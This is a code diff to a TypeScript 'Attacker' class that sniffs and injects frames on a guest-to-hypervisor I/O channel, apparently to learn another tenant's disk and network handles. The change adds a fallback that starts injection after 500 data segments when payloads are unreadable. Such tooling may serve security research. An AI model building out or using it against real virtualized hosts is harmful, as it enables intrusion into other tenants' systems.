@@ -137,6 +137,8 @@ const u32 = (n: number) => n >>> 0
 const readMac48 = (f: Uint8Array, at: number) => readU16(f, at) * 2 ** 32 + readU32(f, at + 2)
 
 const RING = 32
+/** Data segments from the guest after which a channel that showed no disk handle counts as unreadable. */
+const UNREADABLE_AFTER = 500
 const BLOCK_DESCRIPTOR = 24
 const SEGMENT_RELIABLE = 1
 const SEGMENT_BEST_EFFORT = 2
@@ -164,6 +166,7 @@ export class Attacker {
   private readonly notes: string[] = []
   /** Data segments seen, by direction and message type (of a message's first segment). */
   private readonly messages: Record<string, number> = {}
+  private dataToIohyp = 0
   private afterBatch: (() => void) | undefined
 
   constructor(config: AttackConfig, send: (frames: Buffer[]) => void) {
@@ -243,6 +246,7 @@ export class Attacker {
     }
     // The first segment of a readable message starts with its header: learn handles, see answers.
     if (payloadLength > 0) {
+      if (flow === this.toIohyp) this.dataToIohyp++
       const k = `${flow === this.toIohyp ? 'toIohyp' : 'toGuest'} ${
         !segment
           ? 'no-segment-option'
@@ -272,9 +276,13 @@ export class Attacker {
   /** Sniffs, injects everything, and reports. */
   async run(): Promise<AttackReport> {
     const started = Date.now()
+    // Until both handles are known; on a channel whose payload is unreadable, until the tenant's
+    // disk traffic is in full flow (a readable one shows the disk handle in its first request).
     await this.until(
       () =>
-        this.toIohyp.seen > 0 && this.toGuest.seen > 0 && this.diskHandle !== null && this.nicHandle !== null,
+        this.toIohyp.seen > 0 &&
+        this.toGuest.seen > 0 &&
+        ((this.diskHandle !== null && this.nicHandle !== null) || this.dataToIohyp >= UNREADABLE_AFTER),
       this.c.sniffMs,
     )
     this.notes.push(`sniffed ${Date.now() - started} ms: ${JSON.stringify(this.messages)}`)
